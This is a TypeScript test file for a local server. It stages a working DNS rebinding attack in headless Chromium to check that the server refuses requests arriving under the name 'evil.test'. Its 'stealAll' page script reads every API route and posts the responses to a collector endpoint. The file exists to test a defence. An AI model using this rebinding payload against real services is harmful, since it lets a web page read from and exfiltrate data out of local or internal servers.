// A real DNS rebinding attack: a page in Chromium whose name is rebound to the server tries to read from it.
import assert from 'node:assert/strict';
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, connect, createServer as createSwitch, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { createHarness, type Harness } from '../app-harness.ts';
import { listOperations } from '../fuzz/operations.ts';

const BROWSER = ['chromium', 'chromium-browser', 'google-chrome'].find(
  (name) => spawnSync(name, ['--version']).status === 0,
);
const SKIP = BROWSER === undefined ? 'NOT CHECKED: there is no Chromium here' : false;
const EVIL = 'evil.test';
const PATIENCE_MS = 300_000;

/** What the page got for each request: status and body, or the error. */
type Loot = Readonly<Record<string, readonly [status: number | 'error', text: string]>>;

describe('a page whose name is pointed at the server', { skip: SKIP, timeout: 2 * PATIENCE_MS }, () => {
  it('reads nothing on any route', async (t) => {
    const loot = await attack({});
    const asked = Object.entries(loot);
    for (const [request, [status, text]] of asked) {
      assert.equal(status, 421, `${request} → ${status} ${text}`);
      assert.match(text, /^\{"(detail":|error":\{"message":)"This host name is not served here/, request);
    }
    t.diagnostic(`${asked.length} requests of the page, none answered`);
    assert.ok(asked.length > 15);
  });

  it('would read it all if its name were served, so that the attack is known to work', async () => {
    const loot = await attack({ allowedHosts: [EVIL] });
    assert.deepEqual(loot['GET /health'], [200, '{"status":"ok"}']);
    assert.equal(loot['GET /openapi.json']?.[0], 200);
    assert.equal(loot['GET /list-voices']?.[0], 401, 'what needs a key still needs it');
  });
});

async function attack(settings: Parameters<typeof createHarness>[0]): Promise<Loot> {
  const server = await createHarness(settings);
  const collector = createServer();
  const name = createName(server, () => (collector.address() as AddressInfo).port);
  const profile = mkdtempSync(join(tmpdir(), 'lector-browser-'));
  let browser: ChildProcess | undefined;
  try {
    await server.app.listen({ host: '127.0.0.1', port: 0 });
    const loot = receive(collector);
    const port = await listen(name.server);
    browser = openBrowser(profile, `http://${EVIL}:${port}/`);
    return await loot;
  } finally {
    if (browser?.pid !== undefined && browser.exitCode === null) {
      const gone = once(browser, 'exit');
      process.kill(-browser.pid, 'SIGKILL'); // its helpers too: it leads a group of its own
      await gone;
    }
    collector.closeAllConnections();
    collector.close();
    name.close();
    await server.close();
    rmSync(profile, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  }
}

/**
 * What the evil name points at: first a web server with the page, and once the page has asked for `/switch` the real
 * server, byte by byte. To the browser it is one origin all the time, as it is when the answer of a name server changes.
 */
function createName(lector: Harness, collectorPort: () => number) {
  const sockets = new Set<Socket>();
  const operations = lector.app.inject({ url: '/openapi.json' }).then((answer) => listOperations(answer.json()));
  let switched = false;

  const server = createSwitch((socket) => {
    sockets.add(socket.on('error', () => {}).on('close', () => sockets.delete(socket)));
    // Decided at the first bytes: browsers open connections ahead of need.
    socket.once('data', async (first) => {
      if (switched) {
        const { port } = lector.app.server.address() as AddressInfo;
        const onward = connect(port, '127.0.0.1').on('error', () => socket.destroy());
        onward.write(first);
        socket.pipe(onward).pipe(socket);
        return;
      }
      const asksToSwitch = first.toString('latin1').startsWith('GET /switch ');
      switched ||= asksToSwitch;
      const page = `<!doctype html><script>(${stealAll})(${JSON.stringify(await listRequests())}, ${collectorPort()})</script>`;
      const body = asksToSwitch ? 'switched' : page;
      const head = `content-type: text/html\r\ncontent-length: ${Buffer.byteLength(body)}\r\nconnection: close`;
      socket.end(`HTTP/1.1 200 OK\r\n${head}\r\n\r\n${body}`);
    });
  });

  async function listRequests() {
    const documented = (await operations).map(({ method, path }) => [method, path.replace(/\{[^}]+\}/g, '1')] as const);
    const hidden = ['/', '/docs/', '/docs/json', '/openapi.json', '/apis/health', '/nowhere'].map(
      (path) => ['GET', path] as const,
    );
    return [...documented, ...hidden];
  }

  return {
    server,
    close: () => {
      server.close();
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Runs in the page. */
async function stealAll(requests: readonly (readonly [method: string, path: string])[], collectorPort: number) {
  await (await fetch('/switch')).text();
  const loot: Record<string, readonly [number | 'error', string]> = {};
  for (const [method, path] of requests) {
    try {
      const body = method === 'POST' ? { body: '{}', headers: { 'content-type': 'application/json' } } : {};
      const answer = await fetch(path, { method, cache: 'no-store', redirect: 'manual', ...body });
      loot[`${method} ${path}`] = [answer.status, await answer.text()];
    } catch (error) {
      loot[`${method} ${path}`] = ['error', String(error)];
    }
  }
  const told = { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) } as const;
  await fetch(`http://${location.hostname}:${collectorPort}/loot`, told);
}

async function receive(collector: Server): Promise<Loot> {
  await listen(collector);
  return new Promise((resolve, reject) => {
    const late = setTimeout(() => reject(new Error('the page told nothing')), PATIENCE_MS);
    collector.on('request', async (request, response) => {
      let text = '';
      for await (const chunk of request.setEncoding('utf8')) text += chunk;
      response.end();
      if (request.url !== '/loot') return;
      clearTimeout(late);
      resolve(JSON.parse(text));
    });
  });
}

async function listen(server: { listen(port: number, host: string): unknown; address(): unknown }): Promise<number> {
  const listening = once(server as Server, 'listening');
  server.listen(0, '127.0.0.1');
  await listening;
  return (server.address() as AddressInfo).port;
}

function openBrowser(profile: string, address: string): ChildProcess {
  const quiet = ['--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-quic'];
  const flags = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--no-proxy-server', ...quiet];
  const rules = [`--host-resolver-rules=MAP ${EVIL} 127.0.0.1`, `--user-data-dir=${profile}`];
  return spawn(BROWSER ?? '', [...flags, ...rules, address], { stdio: 'ignore', detached: true });
}
